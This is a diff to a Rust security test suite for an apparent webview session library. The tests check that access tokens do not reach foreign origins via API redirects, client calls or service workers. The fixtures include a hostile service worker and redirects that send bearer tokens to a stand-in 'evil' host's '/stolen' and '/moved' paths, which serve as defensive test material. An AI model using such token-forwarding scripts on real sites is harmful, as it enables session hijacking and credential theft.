@@ -1,7 +1,7 @@
 //! Tokens that are sent elsewhere.
 
 use tokencast_threats::{Engine, Plan, Served, Stage, scripts};
-use tokencast_webviews::{View, run};
+use tokencast_webviews::{View, run, until};
 
 /// 1. An API of the app answers with a redirect to a stranger.
 /// 2. The naive client has its token in a header of its own, which browsers carry along.
@@ -9,22 +9,37 @@ pub(crate) async fn an_api_that_redirects_to_a_stranger_takes_no_token_there<E: 
     let plan = Plan::default().profile(|profile, app| profile.with_resource_origin(&app.origin).unwrap());
     let stage: Stage<E> = plan.open().await;
     let token = stage.token().await;
-    stage.app.put("/", Served::html(scripts::app_page(&[&stage.app.origin])));
+    stage
+        .app
+        .put("/", Served::html(scripts::app_page(&[&stage.app.origin])));
     for thief in [&stage.evil, &stage.foreign] {
-        stage.app.put("/api/moved", Served::redirect(&thief.url("/moved")));
+        stage
+            .app
+            .put("/api/moved", Served::redirect(&thief.url("/moved")));
         let control = stage.engine.bare().await;
         stage.visit(&control, &stage.app.url("/silent")).await;
         let call = format!("await fetch('/api/moved', {{ headers: {{ 'x-access-token': '{token}' }} }})");
         run(&control, &call).await;
-        assert!(thief.until_seen("/moved", 1).await[0].holds(&token), "it must fall");
+        assert!(
+            thief.until_seen("/moved", 1).await[0].holds(&token),
+            "it must fall"
+        );
         thief.forget();
         stage.app.forget();
 
         let view = stage.active(&stage.app).await;
-        run(&view, "return (await session.fetch('/api/moved')).status").await;
-        run(&view, "return (await session.fetch('/api/moved', { method: 'POST', body: 'x' })).status").await;
-        assert!(stage.app.seen_at("/api/moved").iter().all(|seen| seen.holds(&token)), "the API is sent it");
-        thief.until_seen("/moved", 2).await;
+        // Some engines end such a call, others go on without the token.
+        for call in ["", ", { method: 'POST', body: 'x' }"] {
+            let call = format!("await session.fetch('/api/moved'{call}).catch(() => {{}})");
+            run(&view, &call).await;
+        }
+        run(&view, &format!("await fetch({:?})", thief.url("/after"))).await;
+        let asked = stage.app.seen_at("/api/moved");
+        assert!(
+            asked.len() == 2 && asked.iter().all(|seen| seen.holds(&token)),
+            "the API is sent it"
+        );
+        thief.until_seen("/after", 1).await;
         assert!(!thief.knows(&token));
         stage.app.forget();
     }
@@ -50,7 +65,10 @@ pub(crate) async fn a_call_to_a_stranger_through_the_client_carries_no_token<E: 
             turncoat(&target)
         );
         run(&control, &naive).await;
-        assert!(thief.until_seen("/called", 1).await[0].holds(&token), "it must fall");
+        assert!(
+            thief.until_seen("/called", 1).await[0].holds(&token),
+            "it must fall"
+        );
         thief.forget();
 
         let view = stage.active(&stage.app).await;
@@ -84,7 +102,9 @@ pub(crate) async fn a_service_worker_does_not_outlive_the_session<E: Engine>() {
         }});",
         stage.evil.url("/stolen")
     );
-    stage.app.put("/", Served::html(scripts::app_page(&[&stage.app.origin])));
+    stage
+        .app
+        .put("/", Served::html(scripts::app_page(&[&stage.app.origin])));
     stage.app.put("/worker.js", Served::script(worker));
     let registers = "await navigator.serviceWorker.register('/worker.js');
         await navigator.serviceWorker.ready;
@@ -93,34 +113,49 @@ pub(crate) async fn a_service_worker_does_not_outlive_the_session<E: Engine>() {
     let calls = "return (await session.fetch('/api/data')).status";
     let view = stage.active(&stage.app).await;
     assert_eq!(run(&view, registers).await, true);
+    // So far a worker is a hostile script of an allowed origin, which gets the access token where the host lets it see calls.
     run(&view, calls).await;
-    let first = stage.token().await;
-    // A hostile script of an allowed origin gets the access token: so far nothing helps.
-    assert!(stage.evil.until_seen("/stolen", 1).await[0].holds(&first));
-    stage.evil.forget();
 
     // The control: a view that nobody cleans.
     let control = stage.engine.bare().await;
     stage.visit(&control, &stage.app.url("/silent")).await;
     assert_eq!(run(&control, registers).await, true);
     stage.visit(&control, &stage.app.url("/silent?later")).await;
-    run(&control, "await fetch('/api/data', { headers: { authorization: 'Bearer of-the-next-session' } })").await;
+    run(
+        &control,
+        "await fetch('/api/data', { headers: { authorization: 'Bearer of-the-next-session' } })",
+    )
+    .await;
     stage.evil.until_seen("/stolen", 1).await;
     assert!(stage.evil.knows("of-the-next-session"), "it must fall");
     stage.evil.forget();
 
     stage.session.sign_out().await.unwrap();
-    tokencast_webviews::until(&view, "return session.state === 'ended'").await;
-    stage.engine.workers_gone(&view).await;
+    until(&view, "return session.state === 'ended'").await;
+    // Until then it was there.
+    until(
+        &view,
+        "return (await navigator.serviceWorker.getRegistrations()).length === 0",
+    )
+    .await;
     stage.session.sign_in(tokencast_testkit::ada()).await.unwrap();
     View::go(&view, &stage.app.url("/")).await;
     stage.until_current(&view).await;
-    assert_eq!(run(&view, "return navigator.serviceWorker.controller === null").await, true);
+    assert_eq!(
+        run(&view, "return navigator.serviceWorker.controller === null").await,
+        true
+    );
     stage.app.forget();
     run(&view, calls).await;
     let second = stage.token().await;
-    assert!(stage.app.until_seen("/api/data", 1).await[0].holds(&second), "the call carries it");
-    let probe = format!("await fetch('{}', {{ mode: 'no-cors' }})", stage.evil.url("/probe"));
+    assert!(
+        stage.app.until_seen("/api/data", 1).await[0].holds(&second),
+        "the call carries it"
+    );
+    let probe = format!(
+        "await fetch('{}', {{ mode: 'no-cors' }})",
+        stage.evil.url("/probe")
+    );
     run(&view, &probe).await;
     stage.evil.until_seen("/probe", 1).await;
     assert!(!stage.evil.knows(&second));
